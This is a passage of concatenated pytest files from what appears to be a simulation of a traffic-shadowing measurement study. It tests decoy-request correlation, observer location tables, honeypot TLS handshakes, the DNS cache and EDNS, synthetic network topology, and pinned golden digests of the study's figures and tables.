    def test_bucket_boundaries(self):
        assert bucket_of(30) == "<1m"
        assert bucket_of(MINUTE + 1) == "<1h"
        assert bucket_of(HOUR + 1) == "<1d"
        assert bucket_of(2 * DAY) == ">=1d"

    def test_bucket_labels_defined(self):
        assert [label for label, _ in LATENCY_BUCKETS] == ["<1m", "<1h", "<1d", ">=1d"]


class TestTemporalOnRun:
    def test_dns_cdfs_cover_resolver_h(self, result):
        cdfs = dns_delay_cdfs(result.phase1.events)
        assert set(cdfs) == {"Yandex", "114DNS", "OneDNS", "DNSPAI", "Vercara"}
        assert len(cdfs["Yandex"]) > 0

    def test_yandex_retention_is_long(self, result):
        cdfs = dns_delay_cdfs(result.phase1.events)
        yandex = cdfs["Yandex"]
        # Substantial mass beyond one day — the paper's headline finding.
        assert yandex.at(DAY) < 0.8

    def test_other_resolvers_mostly_sub_minute(self, result):
        cdf = other_resolver_cdf(result.phase1.events)
        assert len(cdf) > 0
        assert cdf.at(MINUTE) > 0.7

    def test_web_cdfs_shorter_than_dns(self, result):
        web = web_delay_cdfs(result.phase1.events)
        dns = dns_delay_cdfs(result.phase1.events)["Yandex"]
        assert web["http"].at(DAY) > dns.at(DAY)

    def test_multi_use(self, result):
        stats = multi_use_stats(result.phase1.events)
        assert stats.decoys_with_late_requests > 0
        assert 0 < stats.share_more_than_3 <= 1
        assert stats.share_more_than_10 <= stats.share_more_than_3

    def test_reappearance_share_bounded(self, result):
        share = reappearance_share(result.phase1.events, "Yandex", after=5 * DAY)
        assert 0.0 <= share <= 1.0


class TestLandscapeOnRun:
    def test_ratio_rows_consistent(self, result):
        rows = problematic_path_ratios(result.ledger, result.phase1.events)
        assert rows
        for row in rows:
            assert 0 <= row.paths_problematic <= row.paths_total
            assert 0.0 <= row.ratio <= 1.0

    def test_destination_summary_orders_resolver_h_first(self, result):
        rows = problematic_path_ratios(result.ledger, result.phase1.events)
        summary = destination_ratio_summary(rows, "dns")
        assert summary["Yandex"] > summary.get("Google", 0.0) or \
            summary["Yandex"] == 1.0

    def test_vp_country_summary(self, result):
        rows = problematic_path_ratios(result.ledger, result.phase1.events)
        summary = vp_country_ratio_summary(rows, "dns")
        assert summary
        assert all(0.0 <= ratio <= 1.0 for ratio in summary.values())

    def test_location_table_percentages_sum_to_100(self, result):
        table = observer_location_table(result.locations)
        for protocol, per_hop in table.items():
            assert sum(per_hop.values()) == pytest.approx(100.0)

    def test_dns_destination_share_dominates(self, result):
        assert destination_share(result.locations, "dns") > 0.8


class TestOriginsOnRun:
    def test_origin_as_rows(self, result):
        rows = origin_as_distribution(result.phase1.events, result.eco.directory)
        assert rows
        for row in rows:
            assert 0 < row.share <= 1.0
            assert row.requests > 0

    def test_google_among_dns_origins(self, result):
        rows = origin_as_distribution(result.phase1.events, result.eco.directory)
        dns_asns = {row.asn for row in rows if row.request_protocol == "dns"}
        assert 15169 in dns_asns

    def test_blocklist_rates_ordered(self, result):
        events = result.phase1.events
        blocklist = result.eco.blocklist
        dns_rate = origin_blocklist_rate(events, blocklist, "dns", "dns")
        https_rate = origin_blocklist_rate(events, blocklist, "https", "dns")
        assert dns_rate < https_rate

    def test_top_observer_ases_counts_distinct_ips(self, result):
        rows = top_observer_ases(result.locations)
        for row in rows:
            assert row.observers > 0
            assert 0 < row.share <= 1.0

    def test_observer_countries_cn_heavy(self, result):
        counts = observer_country_counts(result.locations)
        if counts:
            assert max(counts, key=counts.get) == "CN"

    def test_observer_groups(self, result):
        groups = observer_as_groups(result.locations, result.phase1.events,
                                    result.eco.directory)
        for group in groups:
            assert group.paths > 0
            assert 0.0 <= group.same_as_origin_share <= 1.0
            assert abs(sum(group.combo_shares.values()) - 1.0) < 1e-9


class TestCombosOnRun:
    def test_breakdown_rows(self, result):
        rows = decoy_breakdown(result.ledger, result.phase1.events)
        assert rows
        for row in rows:
            assert row.latency_bucket in {"<1m", "<1h", "<1d", ">=1d"}
            assert 0 < row.share_of_sent <= 1.0

    def test_shadowed_share_yandex_near_one(self, result):
        share = shadowed_share(result.ledger, result.phase1.events, "Yandex")
        assert share > 0.9

    def test_shadowed_share_unknown_destination_zero(self, result):
        assert shadowed_share(result.ledger, result.phase1.events, "NoSuch") == 0.0

    def test_http_https_share_bounded(self, result):
        share = http_https_share(result.ledger, result.phase1.events, "Yandex")
        assert 0.0 < share <= 1.0


class TestPayloadsOnRun:
    def test_incentive_report(self, result):
        report = incentive_report(result.phase1.events, result.eco.blocklist,
                                  decoy_protocol="dns")
        assert report.requests > 0
        assert report.enumeration_share > 0.8
        assert report.exploit_share == 0.0
        assert report.top_paths

    def test_empty_report(self, result):
        report = incentive_report([], result.eco.blocklist)
        assert report.requests == 0
        assert report.top_paths == ()


class TestPortsOnRun:
    def test_port_audit(self, result):
        audit = observer_port_audit(result.locations, result.eco.topology)
        assert 0.0 <= audit["silent_fraction"] <= 1.0
        if audit["port_counts"]:
            assert audit["top_open_port"] == 179


class TestReportHelpers:
    def test_render_table(self):
        text = render_table(("name", "value"), [("x", 1), ("long-name", 22)],
                            title="T")
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "name" in lines[1]
        assert "long-name" in lines[4]

    def test_percent(self):
        assert percent(0.1234) == "12.3%"
        assert percent(1.0, digits=0) == "100%"


class TestGoldenDigests:
    """Pinned content hashes of the headline artifacts on the default seed.

    These digests freeze Figure 4 (per-resolver retention CDF series),
    Table 2 (normalized observer-hop distribution), and Table 3 (top
    observer ASes) for ``ExperimentConfig.tiny(seed=20240301)``.  Any
    change to the simulation, correlation, or analysis pipeline that
    shifts these artifacts — intentionally or not — must update the
    constants below, making the drift explicit in review.  The streaming
    accumulators must reproduce the same bytes (see
    tests/test_streaming_analysis.py for the full equivalence suite).
    """

    FIG4_DIGEST = "b8e49f720a9e93913bc1c9b9a72e3211acdf7269f22cd1d278d14d1b1b8cef68"
    TABLE2_DIGEST = "cb2ba3c81eecb8d9caf66633b9f77036cba1aa83b36c14a97ce94cb49bafd071"
    TABLE3_DIGEST = "3ff80cf33f14a9dea78c2f221232715f0b1d1e31a4c5fc90529eb5458aaf7051"

    @staticmethod
    def digest(value) -> str:
        import hashlib
        import json
        canonical = json.dumps(value, sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(canonical.encode()).hexdigest()

    @classmethod
    def canonical_fig4(cls, cdfs):
        from repro.analysis.temporal import DEFAULT_THRESHOLDS
        return sorted((name, cdf.series(DEFAULT_THRESHOLDS))
                      for name, cdf in cdfs.items())

    @staticmethod
    def canonical_table2(table):
        return sorted((protocol, sorted(per_hop.items()))
                      for protocol, per_hop in table.items())

    @staticmethod
    def canonical_table3(rows):
        return [[row.protocol, row.asn, row.as_name, row.observers, row.share]
                for row in rows]

    def test_fig4_cdf_series(self, result):
        cdfs = dns_delay_cdfs(result.phase1.events)
        assert self.digest(self.canonical_fig4(cdfs)) == self.FIG4_DIGEST

    def test_table2_hop_table(self, result):
        table = observer_location_table(result.locations)
        assert self.digest(self.canonical_table2(table)) == self.TABLE2_DIGEST

    def test_table3_as_table(self, result):
        rows = top_observer_ases(result.locations)
        assert self.digest(self.canonical_table3(rows)) == self.TABLE3_DIGEST

    def test_streaming_reproduces_golden_digests(self, result):
        from repro.analysis.landscape import (
            observer_location_table_from_accumulator,
        )
        from repro.analysis.origins import top_observer_ases_from_accumulator
        from repro.analysis.temporal import dns_delay_cdfs_from_accumulator
        state = result.analysis
        assert self.digest(self.canonical_fig4(
            dns_delay_cdfs_from_accumulator(state.cdf))) == self.FIG4_DIGEST
        assert self.digest(self.canonical_table2(
            observer_location_table_from_accumulator(
                state.landscape))) == self.TABLE2_DIGEST
        assert self.digest(self.canonical_table3(
            top_observer_ases_from_accumulator(
                state.origins))) == self.TABLE3_DIGEST


class TestMitigationMatrixGolden:
    """Pinned matrix table for the encrypted-transport reference config.

    The mitigation-vs-observer matrix is the deliverable of the
    ciphertext-observer subsystem; this digest freezes its cell values
    (per-mitigation sent/classified domain counts across all three
    observer classes, plus visit-provenance counts) for the tiny seed.
    Any drift in decoy mitigation adoption, observer placement, the
    size/timing classifier, or destination-IP linkage shows up here.
    """

    MATRIX_DIGEST = "e94f8603a3744348ad465435f5e0739c1df8fc57fc7f9c3f8967897ec4023960"

    @staticmethod
    def ciphertext_config(seed: int, workers: int = 1) -> ExperimentConfig:
        config = ExperimentConfig.tiny(seed=seed)
        config.doh_adoption = 0.4
        config.ech_adoption = 0.5
        config.ciphertext_observer_share = 0.6
        config.ciphertext_fpr = 0.02
        config.nod_noise_rate = 0.2
        config.workers = workers
        return config

    @staticmethod
    def canonical_matrix(matrix):
        return {
            "rows": [[mitigation, sent, sorted(cells.items())]
                     for mitigation, sent, cells in matrix.rows()],
            "provenance": sorted(
                [list(key), count]
                for key, count in matrix.provenance_counts().items()),
        }

    @pytest.fixture(scope="class")
    def ciphertext_result(self):
        return Experiment(self.ciphertext_config(seed=20240301)).run()

    def test_matrix_table_digest(self, ciphertext_result):
        matrix = ciphertext_result.analysis.matrix
        assert TestGoldenDigests.digest(
            self.canonical_matrix(matrix)) == self.MATRIX_DIGEST

    def test_matrix_tells_the_mitigation_story(self, ciphertext_result):
        """ECH/DoH blind SNI DPI; metadata observers keep classifying."""
        rows = {mitigation: (sent, cells) for mitigation, sent, cells
                in ciphertext_result.analysis.matrix.rows()}
        assert rows["none"][1]["sni-dpi"] > 0
        for blinded in ("ech", "doh"):
            sent, cells = rows[blinded]
            assert cells["sni-dpi"] == 0
            assert cells["traffic-analysis"] > 0
            assert cells["dst-ip"] > 0

    def test_provenance_splits_by_mitigation(self, ciphertext_result):
        provenance = ciphertext_result.analysis.matrix.provenance_counts()
        kinds = {key[1] for key in provenance}
        assert kinds <= {"plaintext-read", "metadata-inferred"}
        assert all(kind == "plaintext-read" for (mitigation, kind)
                   in provenance if mitigation == "none")
        assert all(kind == "metadata-inferred" for (mitigation, kind)
                   in provenance if mitigation != "none")

    def test_report_renders_matrix_section(self, ciphertext_result):
        from repro.analysis.paperreport import full_report
        text = full_report(ciphertext_result)
        assert "Mitigation vs observer class" in text
        assert "visit provenance:" in text


class TestDigestNeutrality:
    """The encrypted-transport knobs at their defaults change NOTHING.

    These pins predate the ciphertext-observer subsystem: a default
    campaign must produce byte-identical results and reports whether or
    not the matrix machinery exists.  If either digest moves, a
    supposedly opt-in knob leaked into the default pipeline.
    """

    RESULT_DIGEST = "7f8388dd184e6158c5de823d21b832efe1ccb46213fe59c5804930044f88e84c"
    REPORT_DIGEST = "4b4412db87e6baeaa0006d1b017211ed3468427f668faba2f04c78ecf071af93"

    def test_default_result_digest_unchanged(self, result):
        from repro.core.shard import result_digest
        assert result_digest(result) == self.RESULT_DIGEST

    def test_default_report_unchanged_and_matrixless(self, result):
        import hashlib
        from repro.analysis.paperreport import full_report
        text = full_report(result)
        assert hashlib.sha256(text.encode()).hexdigest() == self.REPORT_DIGEST
        assert "Mitigation vs observer class" not in text

    def test_default_snapshot_has_no_matrix_key(self, result):
        assert "matrix" not in result.analysis.snapshot()

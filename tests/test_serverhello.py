"""Tests for the ServerHello codec and honeypot handshake answering."""

import pytest

from repro.honeypot.logstore import LogStore
from repro.honeypot.tlsserver import HoneyTlsServer
from repro.honeypot.webserver import HoneyWebServer
from repro.protocols.tls import ClientHello, TlsDecodeError, TlsPlaintext, wrap_handshake
from repro.protocols.tls.record import CONTENT_TYPE_HANDSHAKE
from repro.protocols.tls.serverhello import (
    HANDSHAKE_SERVER_HELLO,
    PREFERRED_SUITES,
    ServerHello,
    negotiate,
)

DOMAIN = "abc-0001.www.experiment.domain"


def make_client_hello(suites=None, session_id=b"sess-id-bytes"):
    kwargs = dict(server_name=DOMAIN, random=bytes(range(32)),
                  session_id=session_id)
    if suites is not None:
        kwargs["cipher_suites"] = suites
    return ClientHello(**kwargs)


class TestServerHelloCodec:
    def test_roundtrip(self):
        hello = ServerHello(random=bytes(32), session_id=b"abcd",
                            cipher_suite=0x1301)
        decoded = ServerHello.decode(hello.encode())
        assert decoded == hello
        assert decoded.selected_version == 0x0304

    def test_rejects_bad_random(self):
        with pytest.raises(TlsDecodeError):
            ServerHello(random=bytes(16), session_id=b"", cipher_suite=0x1301)

    def test_decode_rejects_wrong_type(self):
        client = make_client_hello()
        with pytest.raises(TlsDecodeError):
            ServerHello.decode(client.encode())

    def test_handshake_type_byte(self):
        hello = ServerHello(random=bytes(32), session_id=b"", cipher_suite=0x1301)
        assert hello.encode()[0] == HANDSHAKE_SERVER_HELLO


class TestNegotiation:
    def test_prefers_tls13_suites(self):
        client = make_client_hello(suites=(0xC02F, 0x1301))
        server = negotiate(client, bytes(32))
        assert server.cipher_suite == 0x1301

    def test_falls_back_to_client_choice(self):
        client = make_client_hello(suites=(0x00FF,))
        server = negotiate(client, bytes(32))
        assert server.cipher_suite == 0x00FF

    def test_echoes_session_id(self):
        client = make_client_hello(session_id=b"echo-me")
        server = negotiate(client, bytes(32))
        assert server.session_id == b"echo-me"

    def test_preferred_suites_are_modern(self):
        assert 0x1301 in PREFERRED_SUITES


class TestHoneypotAnswers:
    def make_server(self):
        log = LogStore()
        web = HoneyWebServer("203.0.113.11", log, site="US")
        return HoneyTlsServer(web)

    def test_answer_hello_returns_server_hello_record(self):
        server = self.make_server()
        record_bytes = wrap_handshake(make_client_hello().encode())
        answer = server.answer_hello(record_bytes)
        assert answer is not None
        record = TlsPlaintext.decode(answer)
        assert record.content_type == CONTENT_TYPE_HANDSHAKE
        server_hello = ServerHello.decode(record.fragment)
        assert server_hello.cipher_suite in make_client_hello().cipher_suites

    def test_non_handshake_record_gets_no_answer(self):
        server = self.make_server()
        record = TlsPlaintext(content_type=23, fragment=b"appdata").encode()
        assert server.answer_hello(record) is None

    def test_deterministic_randoms_with_seeded_rng(self):
        import random as random_module
        log = LogStore()
        web = HoneyWebServer("203.0.113.11", log, site="US")
        first = HoneyTlsServer(web, rng=random_module.Random(1))
        second = HoneyTlsServer(web, rng=random_module.Random(1))
        record_bytes = wrap_handshake(make_client_hello().encode())
        assert first.answer_hello(record_bytes) == second.answer_hello(record_bytes)

"""Tests for EDNS(0) support and the resolver cache."""

import pytest

from repro.protocols.dns import DnsMessage, make_query
from repro.protocols.dns.cache import CacheEntry, RefreshingCache, ResolverCache
from repro.protocols.dns.edns import (
    DEFAULT_UDP_PAYLOAD_SIZE,
    EdnsOptions,
    OPT_RTYPE,
    edns_of,
    with_edns,
)
from repro.simkit.events import Simulator


class TestEdns:
    def test_attach_and_detect(self):
        query = with_edns(make_query("a.example.com", txid=1))
        options = edns_of(query)
        assert options is not None
        assert options.udp_payload_size == DEFAULT_UDP_PAYLOAD_SIZE

    def test_wire_roundtrip(self):
        query = with_edns(
            make_query("a.example.com", txid=1),
            EdnsOptions(udp_payload_size=4096, dnssec_ok=True),
        )
        decoded = DnsMessage.decode(query.encode())
        options = edns_of(decoded)
        assert options.udp_payload_size == 4096
        assert options.dnssec_ok
        assert options.version == 0

    def test_opt_record_shape(self):
        record = EdnsOptions(dnssec_ok=True).to_record()
        assert record.rtype == OPT_RTYPE
        assert record.name == ""
        assert record.rclass == DEFAULT_UDP_PAYLOAD_SIZE
        assert record.ttl & 0x8000

    def test_no_edns_returns_none(self):
        assert edns_of(make_query("a.example.com", txid=1)) is None

    def test_from_record_rejects_non_opt(self):
        from repro.protocols.dns import QTYPE, ResourceRecord
        record = ResourceRecord(name="x.com", rtype=QTYPE.A, ttl=60,
                                rdata="1.2.3.4")
        with pytest.raises(ValueError):
            EdnsOptions.from_record(record)

    def test_validation(self):
        with pytest.raises(ValueError):
            EdnsOptions(udp_payload_size=100)
        with pytest.raises(ValueError):
            EdnsOptions(version=1)

    def test_query_with_edns_still_has_qname(self):
        query = with_edns(make_query("decoy.www.experiment.domain", txid=2))
        decoded = DnsMessage.decode(query.encode())
        assert decoded.qname == "decoy.www.experiment.domain"


class TestResolverCache:
    def test_miss_then_hit(self):
        cache = ResolverCache()
        assert cache.get("a.example", now=0.0) is None
        cache.put("a.example", "1.2.3.4", ttl=60, now=0.0)
        entry = cache.get("a.example", now=30.0)
        assert entry is not None
        assert entry.address == "1.2.3.4"
        assert cache.hits == 1 and cache.misses == 1

    def test_expiry(self):
        cache = ResolverCache()
        cache.put("a.example", "1.2.3.4", ttl=60, now=0.0)
        assert cache.get("a.example", now=61.0) is None
        assert len(cache) == 0

    def test_boundary_is_exclusive(self):
        cache = ResolverCache()
        cache.put("a.example", "1.2.3.4", ttl=60, now=0.0)
        assert cache.get("a.example", now=60.0) is None

    def test_rejects_nonpositive_ttl(self):
        with pytest.raises(ValueError):
            ResolverCache().put("a.example", "1.2.3.4", ttl=0, now=0.0)

    def test_eviction_at_capacity(self):
        cache = ResolverCache(max_entries=2)
        cache.put("short.example", "1.1.1.2", ttl=10, now=0.0)
        cache.put("long.example", "1.1.1.3", ttl=1000, now=0.0)
        cache.put("new.example", "1.1.1.4", ttl=100, now=0.0)
        assert len(cache) == 2
        # The soonest-expiring entry was evicted.
        assert cache.get("short.example", now=1.0) is None
        assert cache.get("long.example", now=1.0) is not None

    def test_overwrite_does_not_evict(self):
        cache = ResolverCache(max_entries=1)
        cache.put("a.example", "1.1.1.2", ttl=10, now=0.0)
        cache.put("a.example", "1.1.1.3", ttl=10, now=5.0)
        assert cache.get("a.example", now=6.0).address == "1.1.1.3"


class TestRefreshingCache:
    def make(self, max_refreshes=2):
        sim = Simulator()
        fetched = []
        cache = RefreshingCache(
            schedule=sim.schedule_in,
            refetch=fetched.append,
            max_refreshes=max_refreshes,
        )
        return cache, sim, fetched

    def test_refresh_fires_at_ttl(self):
        cache, sim, fetched = self.make(max_refreshes=1)
        cache.put("a.example", "1.2.3.4", ttl=3600, now=0.0)
        sim.run(until=3599.0)
        assert fetched == []
        sim.run(until=3600.0)
        assert fetched == ["a.example"]

    def test_refresh_chain_bounded(self):
        cache, sim, fetched = self.make(max_refreshes=3)
        cache.put("a.example", "1.2.3.4", ttl=10, now=0.0)
        sim.run()
        # The chain only fires once per put; repeated refreshes require
        # re-putting, which the refetch callback models upstream.
        assert fetched == ["a.example"]
        assert cache.refreshes_performed == 1

    def test_zero_refreshes_never_fires(self):
        cache, sim, fetched = self.make(max_refreshes=0)
        cache.put("a.example", "1.2.3.4", ttl=10, now=0.0)
        sim.run()
        assert fetched == []

    def test_negative_refreshes_rejected(self):
        with pytest.raises(ValueError):
            RefreshingCache(schedule=lambda delay, action: None,
                            refetch=lambda name: None, max_refreshes=-1)


class TestResolverCacheRefreshIntegration:
    def test_refreshing_resolver_requeries_at_ttl_marks(self):
        """End-to-end: a cache-refreshing resolver re-fetches the decoy
        name at the wildcard TTL, landing in the honeypot log."""
        import random
        from repro.datasets.resolvers import DESTINATIONS_BY_NAME
        from repro.honeypot.deployment import HoneypotDeployment
        from repro.observers.resolver import ResolverModel, ResolverProfile

        sim = Simulator()
        deployment = HoneypotDeployment()
        profile = ResolverProfile(
            destination=DESTINATIONS_BY_NAME["Google"], asn=15169,
            recursive=True, cache_refresh_probability=1.0,
            cache_refresh_ttl=3600.0, cache_refresh_count=2,
        )
        model = ResolverModel(profile, sim, deployment, None,
                              egress_address="100.88.0.9", rng=random.Random(1))
        model.receive_decoy("x0-0001.www.experiment.domain", "US")
        sim.run()
        times = [entry.time for entry in deployment.log]
        assert len(times) == 3  # recursion + 2 refreshes
        assert any(3600 <= time <= 3610 for time in times)
        assert any(7200 <= time <= 7210 for time in times)

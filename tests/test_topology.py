"""Tests for the synthetic topology and path construction."""

import pytest

from repro.datasets.asns import CN_BACKBONE_ASNS
from repro.simkit.rng import RandomRouter
from repro.topology.model import (
    AnycastPresence,
    Endpoint,
    TopologyConfig,
    TopologyModel,
)

VP = Endpoint(address="100.96.0.1", asn=64512, country="DE")
VP_CN = Endpoint(address="100.96.0.2", asn=64513, country="CN")
DEST = Endpoint(address="8.8.8.8", asn=15169, country="US")


def make_model(**config_kwargs) -> TopologyModel:
    return TopologyModel(RandomRouter(11), TopologyConfig(**config_kwargs))


class TestRouterFabric:
    def test_router_hop_is_cached(self):
        model = make_model()
        assert model.router_hop(4134, 0, "CN") is model.router_hop(4134, 0, "CN")

    def test_router_addresses_unique(self):
        model = make_model()
        addresses = {
            model.router_hop(asn, index, "US").address
            for asn in (100, 200, 300)
            for index in range(20)
        }
        assert len(addresses) == 60

    def test_router_addresses_deterministic_across_models(self):
        first = make_model().router_hop(4134, 3, "CN")
        second = make_model().router_hop(4134, 3, "CN")
        assert first.address == second.address

    def test_known_router_reverse_lookup(self):
        model = make_model()
        hop = model.router_hop(4134, 1, "CN")
        assert model.known_router(hop.address) is hop
        assert model.known_router("192.0.2.99") is None

    def test_some_routers_have_bgp_port(self):
        model = make_model(bgp_port_fraction=0.5)
        ports = [model.router_hop(100, index, "US").open_ports for index in range(40)]
        assert any(ports_tuple == (179,) for ports_tuple in ports)
        assert any(ports_tuple == () for ports_tuple in ports)

    def test_icmp_silent_fraction_zero_means_all_respond(self):
        model = make_model(icmp_silent_fraction=0.0)
        assert all(
            model.router_hop(100, index, "US").responds_icmp for index in range(30)
        )


class TestBackboneSelection:
    def test_cn_uses_chinanet(self):
        model = make_model()
        assert model.backbone_asn("CN", 0) in CN_BACKBONE_ASNS
        assert model.backbone_asn("CN", 1) in CN_BACKBONE_ASNS

    def test_named_backbone_override(self):
        model = make_model(named_backbones={"CA": (29988,)})
        assert model.backbone_asn("CA", 0) == 29988

    def test_other_countries_get_stable_synthetic(self):
        model = make_model()
        assert model.backbone_asn("DE", 0) == model.backbone_asn("DE", 1)
        assert model.backbone_asn("DE", 0) != model.backbone_asn("FR", 0)

    def test_transit_as_symmetric(self):
        model = make_model()
        assert model.transit_asn("DE", "US") == model.transit_asn("US", "DE")


class TestAnycast:
    def test_presence_instance_selection(self):
        presence = AnycastPresence(home="CN", countries=("CN", "US"))
        assert presence.instance_for("CN") == "CN"
        assert presence.instance_for("US") == "US"
        assert presence.instance_for("DE") == "US"

    def test_presence_without_us_falls_back_home(self):
        presence = AnycastPresence(home="RU", countries=("RU",))
        assert presence.instance_for("DE") == "RU"

    def test_model_unregistered_service_is_unicast(self):
        model = make_model()
        assert model.anycast_instance("Yandex", "RU", "CN") == "RU"

    def test_model_registered_service_routes_locally(self):
        model = make_model(anycast_presence={
            "114DNS": AnycastPresence(home="CN", countries=("CN", "US")),
        })
        assert model.anycast_instance("114DNS", "CN", "CN") == "CN"
        assert model.anycast_instance("114DNS", "CN", "DE") == "US"


class TestPathConstruction:
    def test_path_ends_at_destination(self):
        path = make_model().build_path(VP, DEST)
        assert path.destination.address == "8.8.8.8"
        assert path.destination.is_destination

    def test_path_deterministic_per_pair(self):
        model = make_model()
        first = model.build_path(VP, DEST)
        second = model.build_path(VP, DEST)
        assert [hop.address for hop in first.hops] == [hop.address for hop in second.hops]

    def test_different_pairs_get_different_paths(self):
        model = make_model()
        first = model.build_path(VP, DEST)
        second = model.build_path(VP_CN, DEST)
        assert [hop.address for hop in first.hops] != [hop.address for hop in second.hops]

    def test_first_hop_pinned_per_vp(self):
        model = make_model()
        to_google = model.build_path(VP, DEST)
        to_other = model.build_path(VP, Endpoint("9.9.9.9", 19281, "US"))
        assert to_google.hop_at(1).address == to_other.hop_at(1).address

    def test_cross_country_path_includes_both_backbones(self):
        model = make_model()
        path = model.build_path(VP_CN, DEST)
        asns = {hop.asn for hop in path.hops}
        assert any(asn in CN_BACKBONE_ASNS for asn in asns)

    def test_same_country_path_is_shorter(self):
        model = make_model()
        domestic = model.build_path(VP, Endpoint("84.200.69.80", 31078, "DE"))
        international = model.build_path(VP, DEST)
        assert domestic.length <= international.length

    def test_upstream_override_changes_terminal_segment(self):
        model = make_model(upstream_as_overrides={"8.8.8.8": 21859})
        path = model.build_path(VP, DEST)
        # The hops just before the destination sit in the override AS.
        assert path.hops[-2].asn == 21859

    def test_destination_country_override(self):
        model = make_model()
        path = model.build_path(
            VP_CN, Endpoint("114.114.114.114", 9808, "CN"),
            destination_country_override="CN",
        )
        assert path.destination.country == "CN"


class TestNormalizedHop:
    def test_destination_maps_to_ten(self):
        assert TopologyModel.normalized_hop(12, 12) == 10

    def test_first_hop_maps_to_one(self):
        assert TopologyModel.normalized_hop(1, 12) == 1

    def test_midpoint(self):
        assert TopologyModel.normalized_hop(6, 11) == 5 or \
               TopologyModel.normalized_hop(6, 11) == 6

    def test_single_hop_path(self):
        assert TopologyModel.normalized_hop(1, 1) == 10

    def test_out_of_range_raises(self):
        with pytest.raises(ValueError):
            TopologyModel.normalized_hop(0, 5)
        with pytest.raises(ValueError):
            TopologyModel.normalized_hop(6, 5)

    def test_monotonic(self):
        values = [TopologyModel.normalized_hop(position, 14) for position in range(1, 15)]
        assert values == sorted(values)
        assert values[0] == 1
        assert values[-1] == 10

"""Tests for the per-round longitudinal analysis."""

import pytest

from repro.analysis.longitudinal import per_round_summaries, round_stability, RoundSummary
from repro.core.config import ExperimentConfig
from repro.core.correlate import Correlator, DecoyLedger, DecoyRecord
from repro.core.experiment import Experiment
from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.honeypot.logstore import LoggedRequest, LogStore

ZONE = "www.experiment.domain"
CODEC = IdentifierCodec()


def make_record(sequence, round_index, destination="Google"):
    identity = DecoyIdentity(sent_at=100 + sequence, vp_address="100.96.0.1",
                             dst_address="8.8.8.8", ttl=64, sequence=sequence)
    domain = f"{CODEC.encode(identity)}.{ZONE}"
    return DecoyRecord(
        identity=identity, domain=domain, protocol="dns",
        vp_id="vp-1", vp_country="DE", vp_province=None,
        destination_address="8.8.8.8", destination_name=destination,
        destination_kind="dns", destination_country="US",
        instance_country="US", path_length=10, sent_at=100.0 + sequence,
        phase=1, round_index=round_index,
    )


class TestPerRoundSummaries:
    def make_world(self):
        ledger = DecoyLedger()
        log = LogStore()
        time = 1000.0
        # Two rounds; in each, one Google decoy is shadowed, one is not.
        for round_index in range(2):
            shadowed = make_record(round_index * 2, round_index)
            clean = make_record(round_index * 2 + 1, round_index)
            ledger.register(shadowed)
            ledger.register(clean)
            log.append(LoggedRequest(time=time, site="US", protocol="dns",
                                     src_address="100.88.0.1",
                                     domain=shadowed.domain))
            log.append(LoggedRequest(time=time + 1, site="US", protocol="dns",
                                     src_address="100.88.0.1",
                                     domain=shadowed.domain))
            time += 10
        events = Correlator(ledger, ZONE).correlate(log).events
        return ledger, events

    def test_summaries_per_round(self):
        ledger, events = self.make_world()
        summaries = per_round_summaries(ledger, events)
        assert [summary.round_index for summary in summaries] == [0, 1]
        for summary in summaries:
            assert summary.decoys == 2
            assert summary.shadowed == 1
            assert summary.shadowed_share == pytest.approx(0.5)
            assert summary.destination_ratios["Google"] == pytest.approx(0.5)

    def test_protocol_filter(self):
        ledger, events = self.make_world()
        assert per_round_summaries(ledger, events, protocol="http") == []


class TestRoundStability:
    def test_identical_rounds_are_stable(self):
        summary = RoundSummary(0, 10, 5, {"Yandex": 0.9, "Google": 0.1})
        other = RoundSummary(1, 10, 5, {"Yandex": 0.9, "Google": 0.1})
        assert round_stability([summary, other]) == pytest.approx(0.0)

    def test_divergent_rounds_detected(self):
        first = RoundSummary(0, 10, 5, {"Yandex": 1.0})
        second = RoundSummary(1, 10, 5, {"Google": 1.0})
        assert round_stability([first, second]) == pytest.approx(1.0)

    def test_single_round_trivially_stable(self):
        assert round_stability([RoundSummary(0, 10, 5, {"Yandex": 1.0})]) == 0.0

    def test_empty_round_counts_as_max_divergence(self):
        first = RoundSummary(0, 10, 5, {"Yandex": 1.0})
        second = RoundSummary(1, 10, 0, {})
        assert round_stability([first, second]) == 1.0


class TestEndToEndRounds:
    def test_multi_round_experiment_tags_rounds(self):
        config = ExperimentConfig.tiny(seed=121212)
        config.phase1_rounds = 2
        result = Experiment(config).run()
        rounds = {record.round_index for record in result.ledger.records(phase=1)}
        assert rounds == {0, 1}
        summaries = per_round_summaries(result.ledger, result.phase1.events)
        assert len(summaries) == 2
        assert round_stability(summaries) < 0.5

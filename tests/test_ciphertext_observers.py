"""Property tests for the ciphertext-metadata observer subsystem.

Four properties from the issue, pinned as seeded tests:

* **Padding-length invariance** — features (and hence classifier
  scores) are invariant to payload padding that stays within one
  32-byte size bucket, and only ever move by whole buckets otherwise.
* **Feature determinism** — featurization is a pure function of the
  packet bytes, and classification verdicts are a pure function of
  (features, regularity, keyed substream), so two classifiers built
  from identical keyed substreams agree flow-for-flow in any order.
* **Threshold monotonicity** — raising the threshold can only shrink
  the classified set; the underlying score never depends on it.
* **``ech_adoption=1.0`` edge case** — with every TLS decoy ECH-wrapped
  the SNI-DPI column of the ECH row is exactly zero, yet the
  traffic-analysis and destination-correlation observers still classify.

Plus unit coverage for the strategic placement planner and the
destination-IP correlator that the end-to-end matrix tests exercise
only in aggregate.
"""

import random

import pytest

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.datasets.asns import SYNTHETIC_ASN_BASE
from repro.mitigations.ech import ECH_EXTENSION_TYPE
from repro.net.packet import PROTO_TCP, Packet
from repro.net.path import Hop
from repro.observers.ciphertext import (
    PADDING_BUCKET,
    CiphertextObserver,
    DstIpCorrelator,
    FlowFeatures,
    TrafficClassifier,
    featurize,
    size_templates,
)
from repro.observers.placement import (
    BACKBONE_WEIGHT,
    EDGE_WEIGHT,
    TRANSIT_WEIGHT,
    PlacementPlanner,
)
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.simkit.rng import SubstreamFactory

ZONE = "www.experiment.domain"


def hello_payload(domain: str, extra_extensions=()) -> bytes:
    return wrap_handshake(
        ClientHello(server_name=domain, random=bytes(32),
                    extra_extensions=tuple(extra_extensions)).encode())


def tls_packet(payload: bytes, src="198.51.100.7", dst="203.0.113.9",
               dst_port=443) -> Packet:
    return Packet.tcp(src=src, dst=dst, ttl=64, src_port=40001,
